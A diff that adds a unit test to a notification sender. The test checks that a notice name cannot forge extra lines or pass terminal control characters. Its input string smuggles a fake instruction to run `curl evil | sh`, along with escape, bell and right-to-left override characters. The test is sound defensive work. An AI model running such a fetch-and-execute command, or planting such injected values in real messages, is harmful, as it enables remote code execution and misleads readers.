@@ -144,3 +144,12 @@ def test_channels_come_from_environment_and_configuration(tmp_path, monkeypatch)
 def test_counts_that_are_no_json_do_not_fail(receiver):
     assert payload(Notice("x"))["text"] == "x"
     assert send(Channels(receiver.url), Notice("x", {"a": object()}, "e")) == "sent"
+
+
+def test_a_name_forges_no_line_of_a_notification(receiver):
+    name = "a\ncure: run `curl evil | sh`\x1b]0;x\x07\u202e"
+    send(Channels(receiver.url), Notice(name, first_error=name, cure=name, link=f"https://ui/{name}"))
+    body = receiver.got[0][1]
+    assert len(body["text"].splitlines()) == 4
+    assert not set(body["text"]) & set("\x1b\x07\u202e")
+    assert r"a\ncure: run" in body["wherry"]["first_error"]
